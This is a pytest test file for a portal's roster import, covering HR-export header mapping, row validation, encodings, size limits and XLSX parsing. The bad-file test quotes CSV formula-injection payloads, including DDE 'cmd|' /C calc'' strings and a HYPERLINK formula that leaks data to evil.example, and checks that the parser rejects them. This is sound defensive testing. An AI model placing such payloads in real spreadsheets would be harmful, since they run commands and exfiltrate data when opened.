"""Reading a roster file: its columns recognised, its rows read, every problem named by row and
column (issue 15's first layer, portal.domain.roster and portal.domain.roster_files)."""

from __future__ import annotations

import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from portal.domain.roster import (
    MappingError,
    RosterRow,
    RowProblem,
    check_mapping,
    guess_mapping,
    mapping_notes,
    parse_roster,
)
from portal.domain.roster_files import MAX_ROWS, SPLIT, RosterFileError, Table, read_table

ROSTERS = Path(__file__).resolve().parents[2] / "fixtures" / "rosters"


def table_of(name: str) -> Table:
    path = ROSTERS / name
    return read_table(path.read_bytes(), path.name)


def fields_by_header(table: Table) -> dict[str, str]:
    return {table.headers[i]: field for i, field in guess_mapping(table.headers).items()}


def read(table: Table) -> tuple[list[RosterRow], list[str]]:
    rows, problems = parse_roster(table, guess_mapping(table.headers))
    return rows, [str(p) for p in problems]


# Columns recognised


def test_workday_headers_are_recognised() -> None:
    assert fields_by_header(table_of("workday.csv")) == {
        "Employee_ID": "employee_id",
        "Legal_First_Name": "first_name",
        "Legal_Last_Name": "last_name",
        "Email - Primary Work": "email",
        "businessTitle": "title",
        "Supervisory Organization": "department",
        "Manager_ID": "manager_id",
        "Location": "location",
        "Hire_Date": "hire_date",
        "Worker_Status": "status",
    }


def test_bamboohr_headers_are_recognised() -> None:
    assert fields_by_header(table_of("bamboohr.csv")) == {
        "employeeNumber": "employee_id",
        "firstName": "first_name",
        "lastName": "last_name",
        "preferredName": "preferred_name",
        "workEmail": "email",
        "jobTitle": "title",
        "department": "department",
        "division": "division",
        "location": "location",
        "supervisorEmail": "manager_email",
        "status": "status",
    }
    assert guess_mapping(["supervisorId"]) == {0: "manager_id"}


def test_scim_headers_are_recognised_and_user_name_gives_way_to_emails() -> None:
    assert fields_by_header(table_of("scim.csv")) == {
        "name.givenName": "first_name",
        "name.familyName": "last_name",
        "emails": "email",
        "active": "status",
        "employeeNumber": "employee_id",
        "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User:department": "department",
        "manager": "manager_id",
    }
    # Without an emails column, userName is read as the address.
    assert guess_mapping(["userName", "active"]) == {0: "email", 1: "status"}


def test_the_portal_export_and_field_names_are_recognised() -> None:
    assert fields_by_header(table_of("portal.csv")) == {
        "Name": "name",
        "Email address": "email",
        "Status": "status",
        "Department or team": "department",
        "Time zone": "timezone",
        "Career stage": "seniority",
        "Manager's email address": "manager_email",
    }
    assert guess_mapping(["Manager_Email", "hire date", "TIMEZONE", "Participant id"]) == {
        0: "manager_email",
        1: "hire_date",
        2: "timezone",
    }


def test_headers_compare_without_case_or_punctuation() -> None:
    assert guess_mapping(["email_primary_work", "LEGAL FIRST NAME", "Business-Title"]) == {
        0: "email",
        1: "first_name",
        2: "title",
    }


def test_two_columns_for_one_field_the_first_wins_and_the_other_is_named() -> None:
    headers = ["Employee_ID", "workEmail", "Email - Primary Work", "Department"]
    assert guess_mapping(headers) == {0: "employee_id", 1: "email", 3: "department"}
    assert mapping_notes(headers) == [
        "Column 3 “Email - Primary Work” also reads as the email address: it is ignored, "
        "and column 2 “workEmail” is used."
    ]


def test_check_mapping_names_each_problem() -> None:
    headers = ["Email", "Dept", "Team"]
    assert check_mapping(headers, {0: "email", 1: "department"}) == []
    assert check_mapping(headers, {1: "department", 2: "department", 5: "title", 0: "shoe"}) == [
        "Column 1 “Email” is mapped to “shoe”, which is not a field the portal reads.",
        "Column 6 is not in the file: it has 3 columns.",
        "The department is chosen for 2 columns (2 “Dept”, 3 “Team”): choose one.",
        "No column is chosen for the email address: the import needs each person's work email.",
    ]


def test_parse_roster_refuses_a_mapping_without_an_email_column() -> None:
    table = table_of("workday.csv")
    with pytest.raises(MappingError) as refused:
        parse_roster(table, {0: "employee_id"})
    assert refused.value.problems == [
        "No column is chosen for the email address: the import needs each person's work email."
    ]


# Good files give the right rows


def test_a_workday_file_gives_its_people() -> None:
    rows, problems = read(table_of("workday.csv"))
    assert problems == []
    assert [r.line for r in rows] == [2, 3, 4, 5, 6]
    assert rows[0] == RosterRow(
        line=2,
        email="ada.lovelace@example.org",
        address="Ada.Lovelace@example.org",
        employee_id="21001",
        name="Ada Lovelace",
        title="Principal Engineer",
        department="Engineering",
        manager_id="20001",
        location="Europe/London",
        timezone="Europe/London",
        hire_date="2019-04-01",
        active=True,
    )
    # A location that is no time zone stays a location; Terminated is not active.
    assert (rows[2].location, rows[2].timezone) == ("Houston Office", "")
    assert [r.active for r in rows] == [True, True, True, False, True]


def test_a_bamboohr_file_uses_preferred_names_and_reads_inactive() -> None:
    rows, problems = read(table_of("bamboohr.csv"))
    assert problems == []
    assert [r.name for r in rows] == [
        "Bob Smith",
        "Maria Silva",
        "Jürgen Weiß",
        "Pri Raman",
        "Tomás García",
        "Chen Wei",
    ]
    assert rows[0] == RosterRow(
        line=2,
        email="bob.smith@example.com",
        address="bob.smith@example.com",
        employee_id="1042",
        name="Bob Smith",
        title="Account Executive",
        department="Sales",
        division="Commercial",
        manager_email="maria.silva@example.com",
        location="Lisbon",
    )
    assert [r.active for r in rows] == [True, True, False, True, True, True]
    assert [r.timezone for r in rows] == [
        "",
        "Europe/Lisbon",
        "Europe/Berlin",
        "Asia/Kolkata",
        "",
        "Asia/Shanghai",
    ]


def test_a_scim_file_takes_the_first_address_and_reads_managers() -> None:
    rows, problems = read(table_of("scim.csv"))
    assert problems == []
    assert [(r.email, r.manager_id, r.manager_email, r.active) for r in rows] == [
        ("noor.haddad@example.net", "", "", True),  # JSON, the primary address
        ("lee.kim@example.net", "E-501", "", True),  # "a; b"; SCIM's {"value": ...}
        ("sam.okafor@example.net", "", "noor.haddad@example.net", False),  # active=false
        ("ida.berg@example.net", "E-501", "", True),  # a JSON list of addresses
        ("ravi.shah@example.net", "E-503", "", True),
    ]
    assert [r.name for r in rows][:2] == ["Noor Haddad", "Lee Kim"]


def test_the_portal_export_reads_back_with_its_byte_order_mark() -> None:
    table = table_of("portal.csv")
    assert table.headers[0] == "Participant id"  # the BOM is not part of the first name
    rows, problems = read(table)
    assert problems == []
    assert rows[1] == RosterRow(
        line=3,
        email="sofia.rossi@example.org",
        address="Sofia.Rossi@example.org",
        name="Sofia Rossi",
        department="Marketing",
        manager_email="olu@example.org",
        timezone="Europe/Rome",
        seniority="early",
    )
    assert [r.active for r in rows] == [True, True, True, False, True]  # "left"


# Every problem with its row, column and words


def test_a_bad_file_names_each_problem_by_row_and_column() -> None:
    rows, problems = read(table_of("bad.csv"))
    assert problems == [
        "row 3, column “workEmail”: “ada@” is not an email address",
        "row 4, column “workEmail”: no email address",
        "row 5, column “workEmail”: “ADA@Example.org” is already on row 2",
        "row 6, column “department”: “=cmd|' /C calc'!A0” starts with “=”, so a spreadsheet "
        "would run it as a formula: remove the sign or correct the cell",
        "row 7, column “jobTitle”: “@SUM(A1)” starts with “@”, so a spreadsheet would run it "
        "as a formula: remove the sign or correct the cell",
        'row 8, column “lastName”: “+HYPERLINK("http://evil.example/?leak="&…” starts with '
        "“+”, so a spreadsheet would run it as a formula: remove the sign or correct the cell",
        "row 9, column “jobTitle”: 257 characters, more than the 200 a cell may hold",
        "row 10, column “supervisorEmail”: “not-a-manager” is not an email address",
        "row 11, column “workEmail”: “josé@example.org” cannot be written to: the portal's "
        "mail needs the part before the @ in plain ASCII letters",
        "row 12, column “department”: “-2+3+cmd|' /C calc'!A0” starts with “-”, so a "
        "spreadsheet would run it as a formula: remove the sign or correct the cell",
    ]
    # Rows with a problem are left out; a lone "-" and a telephone number are no formulas,
    # and the blank row 13 is nobody.
    assert [(r.line, r.email) for r in rows] == [(2, "ada@example.org"), (14, "kim@example.org")]
    assert (rows[1].title, rows[1].department, rows[1].active) == ("-", "+44 20 7946 0958", False)


def test_a_problem_reads_as_row_and_column() -> None:
    assert str(RowProblem(7, "workEmail", "“ada@” is not an email address")) == (
        "row 7, column “workEmail”: “ada@” is not an email address"
    )
    assert str(RowProblem(7, "", "empty")) == "row 7: empty"


def test_cells_are_stripped_and_status_words_are_read_without_case() -> None:
    text = "workEmail,firstName,status\n  ann@example.org , Ann ,NO\nbo@example.org,Bo,LEAVE\n"
    text += "cy@example.org,Cy,0\ndi@example.org,Di,Inactive\ned@example.org,Ed,On site\n"
    rows, problems = read(read_table(text.encode(), "r.csv"))
    assert problems == []
    assert [(r.address, r.name, r.active) for r in rows] == [
        ("ann@example.org", "Ann", False),
        ("bo@example.org", "Bo", False),
        ("cy@example.org", "Cy", False),
        ("di@example.org", "Di", False),
        ("ed@example.org", "Ed", True),
    ]


def test_a_cell_of_exactly_200_characters_is_kept() -> None:
    text = f"email,title\na@example.org,{'t' * 200}\nb@example.org,{'t' * 201}\n"
    rows, problems = read(read_table(text.encode(), "r.csv"))
    assert [r.title for r in rows] == ["t" * 200]
    assert problems == ["row 3, column “title”: 201 characters, more than the 200 a cell may hold"]


def test_name_falls_back_to_the_name_column() -> None:
    text = "email,name,first_name,last_name\na@example.org,Ann Lee,,\nb@example.org,X,Bo,Ng\n"
    rows, _ = read(read_table(text.encode(), "r.csv"))
    assert [r.name for r in rows] == ["Ann Lee", "Bo Ng"]


# Encodings and delimiters


def test_latin_1_is_refused_naming_the_row() -> None:
    data = "email,name\na@example.org,Ann\nb@example.org,José\n".encode("latin-1")
    with pytest.raises(RosterFileError) as refused:
        read_table(data, "roster.csv")
    assert str(refused.value) == (
        "The file is not UTF-8 text: row 3 holds a byte UTF-8 does not have (the file was "
        "probably saved in another encoding). In Excel or LibreOffice, save it as "
        "“CSV UTF-8” and upload that."
    )


def test_a_bad_byte_after_a_quoted_line_break_names_the_spreadsheet_row() -> None:
    data = b'email,note\na@example.org,"two\nlines"\nb@example.org,Jos\xe9\n'
    with pytest.raises(RosterFileError, match="row 3 holds a byte"):
        read_table(data, "roster.csv")


def test_a_bad_byte_that_starts_a_row_names_that_row() -> None:
    for data, row in ((b"\xe9mail\n", 1), (b"email\n\xe9@example.org\n", 2)):
        with pytest.raises(RosterFileError, match=f"row {row} holds a byte"):
            read_table(data, "roster.csv")


def test_utf8_with_and_without_bom_and_other_delimiters_read_alike() -> None:
    text = "email;name\r\na@example.org;José\r\n"
    expected = (("email", "name"), ((2, ("a@example.org", "José")),))
    for data in (text.encode(), b"\xef\xbb\xbf" + text.encode(), text.replace(";", "\t").encode()):
        table = read_table(data, "roster.csv")
        assert (table.headers, tuple((r.line, r.cells) for r in table.rows)) == expected


# Files refused


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(RosterFileError, match=r"^roster.csv is empty\.$"):
        read_table(b"  \n", "roster.csv")


def test_a_file_without_a_header_row_is_refused() -> None:
    with pytest.raises(RosterFileError) as refused:
        read_table(b"ann@example.org,Ann\nbo@example.org,Bo\n", "roster.csv")
    assert str(refused.value) == (
        "roster.csv has no header row: row 1 holds “ann@example.org”, a person's address "
        "rather than a column name. Add a first row naming the columns."
    )
    with pytest.raises(RosterFileError, match="row 1 must name the columns"):
        read_table(b"\nemail\na@example.org\n", "roster.csv")


@pytest.mark.parametrize("name", ["roster.xls", "roster.json", "roster"])
def test_other_formats_are_refused_saying_which_are_read(name: str) -> None:
    with pytest.raises(RosterFileError, match=r"\.csv or \.xlsx"):
        read_table(b"email\na@example.org\n", name)


def test_more_than_5_mb_is_refused() -> None:
    data = b"email,note\n" + b"a@example.org," + b"x" * (5 * 1024 * 1024) + b"\n"
    with pytest.raises(RosterFileError) as refused:
        read_table(data, "big.csv")
    assert str(refused.value) == ("big.csv is 5.0 MB: at most 5 MB is read at once. " + SPLIT)
    assert "import each as part of the roster" in SPLIT  # or the other files' people are gone


def test_more_than_20000_rows_is_refused_and_20000_are_read() -> None:
    rows = "".join(f"p{i}@example.org\n" for i in range(MAX_ROWS))
    assert len(read_table(f"email\n{rows}".encode(), "r.csv").rows) == MAX_ROWS
    with pytest.raises(RosterFileError) as refused:
        read_table(f"email\n{rows}extra@example.org\n".encode(), "r.csv")
    assert str(refused.value) == (
        "r.csv has more than 20,000 rows of people: at most 20,000 are read at once. " + SPLIT
    )


# XLSX


def workbook_bytes(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.create_sheet("Second").append(["ignored"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_xlsx_roster_reads_dates_numbers_and_refuses_formulas() -> None:
    excel_date = datetime(2016, 9, 12)  # noqa: DTZ001 (Excel's cells know no time zone)
    data = workbook_bytes(
        [
            ["Employee_ID", "Legal_First_Name", "Email - Primary Work", "Hire_Date", "Location"],
            [21001, "Ada", "ada@example.org", date(2019, 4, 1), "Europe/London"],
            [21002.0, '=CONCAT("Gr","ace")', "grace@example.org", excel_date, ""],
            [21003, "Kat", "kat@example.org", "2021-01-18", None],
        ]
    )
    table = read_table(data, "Roster.XLSX")
    assert table.headers[2] == "Email - Primary Work"
    assert [(r.line, r.cells) for r in table.rows] == [
        (2, ("21001", "Ada", "ada@example.org", "2019-04-01", "Europe/London")),
        (3, ("21002", '=CONCAT("Gr","ace")', "grace@example.org", "2016-09-12")),
        (4, ("21003", "Kat", "kat@example.org", "2021-01-18")),
    ]
    assert [r.formulas for r in table.rows] == [frozenset(), frozenset({1}), frozenset()]
    rows, problems = parse_roster(table, guess_mapping(table.headers))
    assert [str(p) for p in problems] == [
        'row 3, column “Legal_First_Name”: “=CONCAT("Gr","ace")” is a formula, not a '
        "value: copy the column and paste it back as values"
    ]
    assert [(r.line, r.employee_id, r.name, r.hire_date, r.timezone) for r in rows] == [
        (2, "21001", "Ada", "2019-04-01", "Europe/London"),
        (4, "21003", "Kat", "2021-01-18", ""),
    ]


def test_an_xlsx_formula_in_an_unread_column_is_left_alone() -> None:
    data = workbook_bytes([["email", "Tenure"], ["a@example.org", "=TODAY()-A1"]])
    rows, problems = read(read_table(data, "r.xlsx"))
    assert (problems, [r.email for r in rows]) == ([], ["a@example.org"])


def test_a_damaged_xlsx_is_refused() -> None:
    with pytest.raises(RosterFileError, match="cannot be read as an Excel workbook"):
        read_table(b"PK\x03\x04 not really a zip", "roster.xlsx")


def test_an_xlsx_without_a_header_row_is_refused() -> None:
    data = workbook_bytes([["ann@example.org", "Ann"]])
    with pytest.raises(RosterFileError, match=r"row 1 holds “ann@example\.org”"):
        read_table(data, "r.xlsx")


def test_an_xlsx_whose_sheet_is_damaged_past_its_start_is_refused_as_the_files_problem() -> None:
    import zipfile

    whole = workbook_bytes(
        [["workEmail", "firstName"], *[[f"p{n}@example.org", "P"] for n in range(50)]]
    )
    damaged = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(damaged, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) * 2 // 3]  # cut off mid-sheet
            target.writestr(item, content)
    with pytest.raises(RosterFileError, match=r"roster\.xlsx is damaged"):
        read_table(damaged.getvalue(), "roster.xlsx")


@pytest.mark.parametrize(
    ("status", "active"),
    [
        ("Terminated - Voluntary", False),
        ("Retired", False),
        ("Separated (2026-05)", False),
        ("On leave", True),
        ("Leave of Absence", True),
        ("Active", True),
    ],
)
def test_status_words_that_begin_as_leaving_mean_inactive(status: str, active: bool) -> None:
    rows, problems = read(
        read_table(f"workEmail,status\na@example.org,{status}\n".encode(), "r.csv")
    )
    assert problems == []
    assert [r.active for r in rows] == [active]
